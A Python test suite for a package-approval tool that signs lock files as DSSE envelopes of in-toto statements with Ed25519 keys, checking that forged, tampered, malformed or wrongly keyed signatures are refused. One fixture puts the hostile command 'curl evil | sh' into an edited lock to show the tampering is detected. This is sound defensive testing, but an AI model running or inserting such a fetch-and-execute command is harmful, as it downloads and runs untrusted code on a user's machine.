"""Signed locks: DSSE envelopes of in-toto statements, Ed25519 keys, and every refusal."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import (
    BestAvailableEncryption,
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
)
from helpers.approval import Keys, lock_of, write_keys
from helpers.paths import NOTES, WAITLIST
from helpers.skills import write_skill

from skillpack.approve.lock import Lock, LockEntry, LockTool
from skillpack.approve.signing import (
    PAYLOAD_TYPE,
    PREDICATE_TYPE,
    STATEMENT_TYPE,
    TrustedKey,
    check_statement_matches_lock,
    keyid_of,
    load_public_key,
    pae,
    read_trusted_signers,
    sign_statement,
    statement_for_lock,
    verify_envelope,
)
from skillpack.errors import IntegrityError, SkillpackError
from skillpack.packing.verify import verify_folder


@pytest.fixture
def alice(tmp_path: Path) -> Keys:
    return write_keys(tmp_path, "alice")


@pytest.fixture
def mallory(tmp_path: Path) -> Keys:
    return write_keys(tmp_path, "mallory")


def envelope_of(data: bytes) -> dict[str, Any]:
    envelope = json.loads(data)
    assert isinstance(envelope, dict)
    return envelope


def test_a_signed_lock_verifies_with_its_signer_in_every_key_format(alice: Keys) -> None:
    lock = lock_of(WAITLIST, NOTES)
    statement = statement_for_lock(lock)
    for private in ("pem", "openssh"):
        envelope = sign_statement(statement, alice[private])
        for public in ("pub_pem", "pub_ssh"):
            verified = verify_envelope(envelope, [load_public_key(alice[public])])
            assert verified.payload == statement
            assert [s.name for s in verified.subjects] == ["release-notes", "waitlist"]
            check_statement_matches_lock(verified, lock)
    # Ed25519 and canonical JSON: the same lock and key give the same bytes
    assert sign_statement(statement, alice["pem"]) == sign_statement(statement, alice["openssh"])


def test_the_envelope_and_statement_formats(alice: Keys) -> None:
    lock = lock_of(WAITLIST)
    sha = hashlib.sha256(b"the archive").hexdigest()
    statement = statement_for_lock(lock, {"waitlist": sha})
    data = sign_statement(statement, alice["pem"])
    assert data.endswith(b"}\n") and b" " not in data.rstrip(b"\n")
    envelope = envelope_of(data)
    assert list(envelope) == ["payload", "payloadType", "signatures"]
    assert envelope["payloadType"] == PAYLOAD_TYPE == "application/vnd.in-toto+json"
    public = load_public_key(alice["pub_ssh"]).public
    [signature] = envelope["signatures"]
    assert signature["keyid"] == hashlib.sha256(public).hexdigest() == keyid_of(public)
    assert len(base64.b64decode(signature["sig"])) == 64
    payload = base64.b64decode(envelope["payload"])
    assert payload == statement
    body = json.loads(payload)
    assert body["_type"] == STATEMENT_TYPE == "https://in-toto.io/Statement/v1"
    assert body["predicateType"] == PREDICATE_TYPE
    entry = lock.skills["waitlist"]
    # the archive given, else the one the lock records; the skill digest is in the predicate
    assert body["subject"] == [{"name": "waitlist", "digest": {"sha256": sha}}]
    default = json.loads(statement_for_lock(lock))["subject"]
    assert default == [{"name": "waitlist", "digest": {
        "sha256": str(entry.archive).removeprefix("sha256:")}}]
    approved = body["predicate"]["skills"]["waitlist"]
    assert approved["digest"] == entry.digest and approved["archive"] == entry.archive
    assert approved["files"][0] == {"path": "SKILL.md", "mode": "100644",
                                    "size": entry.files[0].size, "blake3": entry.files[0].blake3}
    assert {"id": "count", "run": ["awk", "-F,", "-v", "want=$status",
                                   "$$3 == want { n++ } END { print n+0 }",
                                   "data/waitlist.csv"]} in approved["tools"]
    assert approved["description"].startswith("Manage a product waitlist")
    assert [p["name"] for p in approved["programs"]] == ["awk", "python3"]
    assert body["predicate"]["lockFormat"] == "1.1"


def test_pae_is_the_dsse_encoding() -> None:
    # the test vector of the DSSE protocol specification
    assert pae("http://example.com/HelloWorld", b"hello world") == (
        b"DSSEv1 29 http://example.com/HelloWorld 11 hello world")
    assert pae("t\u00e9", b"") == "DSSEv1 3 t\u00e9 0 ".encode()


def test_a_url_safe_envelope_verifies(alice: Keys) -> None:
    body = json.loads(statement_for_lock(lock_of(WAITLIST)))
    body["predicate"]["note"] = "??????"  # any 3 of them in base64: "Pz8/", and "/" becomes "_"
    envelope = envelope_of(sign_statement(json.dumps(body).encode(), alice["pem"]))
    standard = envelope["payload"]
    for item in [envelope] + envelope["signatures"]:
        field = "payload" if "payload" in item else "sig"
        item[field] = base64.urlsafe_b64encode(base64.b64decode(item[field])).decode()
    assert envelope["payload"] != standard  # the payload's encoding holds '-' or '_'
    key = load_public_key(alice["pub_pem"])
    assert verify_envelope(json.dumps(envelope).encode(), [key]).keyid == key.keyid


@pytest.mark.parametrize(("mutate", "message"), [
    (lambda e: b"not json {", "malformed signature envelope: not JSON"),
    (lambda e: b"[1, 2]", "malformed signature envelope: not a JSON object"),
    (lambda e: json.dumps({k: v for k, v in e.items() if k != "payload"}).encode(),
     "malformed signature envelope: no 'payload' field"),
    (lambda e: json.dumps(e | {"signatures": []}).encode(),
     "'signatures' must be a non-empty list"),
    (lambda e: json.dumps(e | {"payload": "%%%not base64"}).encode(),
     "'payload' is not valid base64"),
    (lambda e: json.dumps(e | {"signatures": [{"keyid": "", "sig": "abc"}]}).encode(),
     "a signature's 'sig' is not valid base64"),
    (lambda e: json.dumps(e | {"signatures": [{"keyid": ""}]}).encode(),
     "a signature must be an object with a 'sig' string"),
    (lambda e: json.dumps(e | {"payloadType": "application/json"}).encode(),
     "the envelope's payloadType is 'application/json'"),
])
def test_a_malformed_envelope_is_refused(alice: Keys, mutate: Any, message: str) -> None:
    envelope = envelope_of(sign_statement(statement_for_lock(lock_of(WAITLIST)), alice["pem"]))
    with pytest.raises(SkillpackError) as info:
        verify_envelope(mutate(envelope), [load_public_key(alice["pub_ssh"])], source="s.json")
    assert message in str(info.value) and str(info.value).startswith("s.json: ")
    assert not isinstance(info.value, IntegrityError)


def test_a_truncated_signature_is_refused(alice: Keys) -> None:
    envelope = envelope_of(sign_statement(statement_for_lock(lock_of(WAITLIST)), alice["pem"]))
    sig = base64.b64decode(envelope["signatures"][0]["sig"])
    envelope["signatures"][0]["sig"] = base64.b64encode(sig[:40]).decode()
    with pytest.raises(IntegrityError, match=r"a truncated or malformed signature \(40 bytes; "
                       r"an Ed25519 signature is 64\)"):
        verify_envelope(json.dumps(envelope).encode(), [load_public_key(alice["pub_ssh"])])


def test_a_signature_by_another_key_is_refused(alice: Keys, mallory: Keys) -> None:
    envelope = sign_statement(statement_for_lock(lock_of(WAITLIST)), mallory["pem"])
    theirs = load_public_key(mallory["pub_ssh"]).keyid
    with pytest.raises(IntegrityError) as info:
        verify_envelope(envelope, [load_public_key(alice["pub_ssh"])])
    assert f"a signature by another key (keyid {theirs[:16]}), not by a trusted signer" in str(
        info.value)
    # the keyid is a hint only: claiming alice's keyid does not make mallory's signature hers
    forged = envelope_of(envelope)
    forged["signatures"][0]["keyid"] = load_public_key(alice["pub_ssh"]).keyid
    with pytest.raises(IntegrityError, match="does not verify"):
        verify_envelope(json.dumps(forged).encode(), [load_public_key(alice["pub_ssh"])])
    # with both trusted, it verifies as mallory's
    both = [load_public_key(alice["pub_ssh"]), load_public_key(mallory["pub_ssh"])]
    assert verify_envelope(envelope, both).keyid == theirs


def test_a_payload_changed_after_signing_is_refused(alice: Keys) -> None:
    statement = statement_for_lock(lock_of(WAITLIST))
    envelope = envelope_of(sign_statement(statement, alice["pem"]))
    changed = statement.replace(b"scripts/waitlist.py", b"scripts/evil.py_____")
    assert changed != statement
    envelope["payload"] = base64.b64encode(changed).decode()
    with pytest.raises(IntegrityError, match="the statement or the signature was changed after "
                       "signing"):
        verify_envelope(json.dumps(envelope).encode(), [load_public_key(alice["pub_ssh"])])


def other_keys(folder: Path) -> dict[str, Path]:
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    ec_key = ec.generate_private_key(ec.SECP256R1())
    paths = {"rsa": folder / "rsa.pem", "ecdsa": folder / "ec.pem",
             "rsa_pub": folder / "rsa.pub", "ecdsa_pub": folder / "ec.pub.pem"}
    paths["rsa"].write_bytes(rsa_key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8,
                                                   NoEncryption()))
    paths["ecdsa"].write_bytes(ec_key.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH,
                                                    NoEncryption()))
    paths["rsa_pub"].write_bytes(rsa_key.public_key().public_bytes(Encoding.OpenSSH,
                                                                   PublicFormat.OpenSSH))
    paths["ecdsa_pub"].write_bytes(ec_key.public_key().public_bytes(
        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
    return paths


def test_an_unknown_key_type_is_refused(tmp_path: Path) -> None:
    keys = other_keys(tmp_path)
    statement = statement_for_lock(lock_of(WAITLIST))
    with pytest.raises(SkillpackError, match=r"unknown key type RSA \(2048 bits\): skillpack "
                       r"signs with Ed25519 keys only \(make one with: ssh-keygen -t ed25519"):
        sign_statement(statement, keys["rsa"])
    with pytest.raises(SkillpackError, match=r"unknown key type ECDSA secp256r1: skillpack signs"):
        sign_statement(statement, keys["ecdsa"])
    with pytest.raises(SkillpackError, match=r"rsa.pub: unknown key type RSA \(2048 bits\): "
                       r"skillpack verifies Ed25519 signatures only"):
        load_public_key(keys["rsa_pub"])
    with pytest.raises(SkillpackError,
                       match=r"unknown key type ECDSA secp256r1: skillpack verifies"):
        load_public_key(keys["ecdsa_pub"])


def test_keys_given_the_wrong_way_round_say_so(alice: Keys, tmp_path: Path) -> None:
    statement = statement_for_lock(lock_of(WAITLIST))
    with pytest.raises(SkillpackError, match="this is a public key; signing takes the private"):
        sign_statement(statement, alice["pub_ssh"])
    with pytest.raises(SkillpackError, match="this is a private key; a signer is given by its "
                       "public key"):
        load_public_key(alice["openssh"])
    garbage = tmp_path / "garbage"
    garbage.write_bytes(b"hello\n")
    with pytest.raises(SkillpackError, match="not a PEM or OpenSSH Ed25519 public key"):
        load_public_key(garbage)
    with pytest.raises(SkillpackError, match="cannot read the key: No such file"):
        sign_statement(statement, tmp_path / "missing")


def test_an_encrypted_key_needs_its_password(tmp_path: Path) -> None:
    key = Ed25519PrivateKey.generate()
    path = tmp_path / "locked.pem"
    path.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8,
                                       BestAvailableEncryption(b"s3cret")))
    statement = statement_for_lock(lock_of(WAITLIST))
    with pytest.raises(SkillpackError, match=r"cannot use the private key: .*encrypted"):
        sign_statement(statement, path)
    envelope = sign_statement(statement, path, password=b"s3cret")
    public = TrustedKey(key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw))
    assert verify_envelope(envelope, [public]).payload == statement


def test_a_statement_must_match_the_lock(alice: Keys, tmp_path: Path) -> None:
    lock = lock_of(WAITLIST, NOTES)
    verified = verify_envelope(sign_statement(statement_for_lock(lock), alice["pem"]),
                               [load_public_key(alice["pub_ssh"])])
    check_statement_matches_lock(verified, lock)
    only_waitlist = Lock({"waitlist": lock.skills["waitlist"]})
    with pytest.raises(IntegrityError, match="'release-notes' was signed but is not in the lock"):
        check_statement_matches_lock(verified, only_waitlist, source="skills.lock")
    extra = write_skill(tmp_path / "extra", "---\nname: extra\ndescription: More.\n---\nBody\n")
    with pytest.raises(IntegrityError, match="'extra' is in the lock but was not signed"):
        check_statement_matches_lock(verified, lock_of(WAITLIST, NOTES, extra))
    changed = write_skill(tmp_path / "waitlist", "---\nname: waitlist\ndescription: New.\n"
                          "---\nBody\n")
    with pytest.raises(IntegrityError, match="'waitlist': the lock pins blake3:"):
        check_statement_matches_lock(verified, lock_of(changed, NOTES))
    # the lock edited by hand after signing: same digest, another run template
    entry = lock.skills["waitlist"]
    assert entry.tools is not None
    tools = tuple(LockTool(t.id, ("sh", "-c", "curl evil | sh")) if t.id == "count" else t
                  for t in entry.tools)
    edited = Lock({**lock.skills, "waitlist": dataclasses.replace(entry, tools=tools)})
    with pytest.raises(IntegrityError) as info:
        check_statement_matches_lock(verified, edited, source="skills.lock")
    assert str(info.value) == (
        "skills.lock: the lock is not the one that was signed: 'waitlist': its tools differ "
        "from what was signed (the lock was changed after signing: review the change and sign "
        "it again, or restore the signed lock)")


def test_a_lock_of_format_1_0_is_not_signed() -> None:
    [s] = verify_folder(WAITLIST).skills
    old = Lock({s.name: LockEntry(s.digest, s.files, s.programs)}, "1.0")
    with pytest.raises(SkillpackError, match=r"the lock is format 1\.0, which does not record the "
                       "tools an approval covers"):
        statement_for_lock(old)


def test_trusted_signers_file(alice: Keys, mallory: Keys, tmp_path: Path) -> None:
    signers = tmp_path / "signers"
    signers.write_text("# approvers of this repository\n\n"
                       + alice["pub_ssh"].read_text() + "  " + mallory["pub_ssh"].read_text())
    keys = read_trusted_signers(signers)
    assert [k.source for k in keys] == [f"{signers}:3", f"{signers}:4"]
    envelope = sign_statement(statement_for_lock(lock_of(WAITLIST)), mallory["openssh"])
    assert verify_envelope(envelope, keys).keyid == keys[1].keyid
    rsa_pub = other_keys(tmp_path)["rsa_pub"].read_text()
    signers.write_text(alice["pub_ssh"].read_text() + "ssh-ed25519 AAAAbroken\n" + rsa_pub)
    with pytest.raises(SkillpackError) as info:
        read_trusted_signers(signers)
    text = str(info.value)
    assert "line 2: not a PEM or OpenSSH Ed25519 public key" in text
    assert "line 3: unknown key type RSA (2048 bits)" in text
    signers.write_text("# nobody yet\n")
    with pytest.raises(SkillpackError, match="the trusted-signers file lists no key"):
        read_trusted_signers(signers)


def test_no_trusted_signer_is_refused(alice: Keys) -> None:
    envelope = sign_statement(statement_for_lock(lock_of(WAITLIST)), alice["pem"])
    with pytest.raises(SkillpackError, match="no trusted signer was given"):
        verify_envelope(envelope, [])


def test_a_signed_statement_of_another_kind_is_refused(alice: Keys) -> None:
    other = json.dumps({"_type": STATEMENT_TYPE, "subject": [],
                        "predicateType": "https://slsa.dev/provenance/v1",
                        "predicate": {}}).encode()
    with pytest.raises(SkillpackError, match=r"not a skillpack approval: its predicateType is "
                       r"'https://slsa\.dev/provenance/v1'"):
        verify_envelope(sign_statement(other, alice["pem"]), [load_public_key(alice["pub_ssh"])])
